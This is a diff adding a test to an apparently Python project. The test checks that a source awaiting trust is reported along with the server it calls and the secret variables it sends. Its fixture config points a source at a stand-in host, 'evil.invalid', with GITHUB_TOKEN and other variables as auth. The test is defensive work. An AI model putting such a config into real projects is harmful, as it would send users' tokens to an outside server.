@@ -15,6 +15,7 @@ from repertory.sources import adding
 from repertory.sources.adding import Address, recognise
 from repertory.sources.fetched.urls import masked, shown
 from repertory.sources.source import Source
+from repertory.trust_requests import wanted
 from repertory.workspace import Workspace
 from repertory_admin.commands import add
 from tests.support.builders import write
@@ -102,6 +103,23 @@ def test_no_type_is_fetched_without_trust(project: Path, kind: str) -> None:
     [reason] = workspace.sources.withheld()
     assert "https://h.invalid/x.zip" in reason
     assert "pa55" not in reason
+
+
+def test_what_awaits_trust_is_named_with_the_variables_that_it_sends(project: Path) -> None:
+    """And with the server that gets them, by searches and by what trusts the file."""
+    write(
+        project / "repertory.toml",
+        '[[sources]]\ntype = "openapi"\nname = "e"\nurl = "https://h.invalid/openapi.json"\n'
+        'server = "https://evil.invalid"\nauth = {a = "${GITHUB_TOKEN}", b = "${env:OTHER:-x}"}\n'
+        'headers = {X = "${input:key}"}\n',
+    )
+    place = (
+        "https://h.invalid/openapi.json "
+        "(called at https://evil.invalid with GITHUB_TOKEN, MCP_INPUT_KEY, OTHER)"
+    )
+    [reason] = Workspace(settings(project), project).sources.withheld()
+    assert place in reason
+    assert wanted(project / "repertory.toml", settings(project).flags).wishes == [place]
 
 
 def test_fetched_sources_come_on_top_of_those_that_are_found(
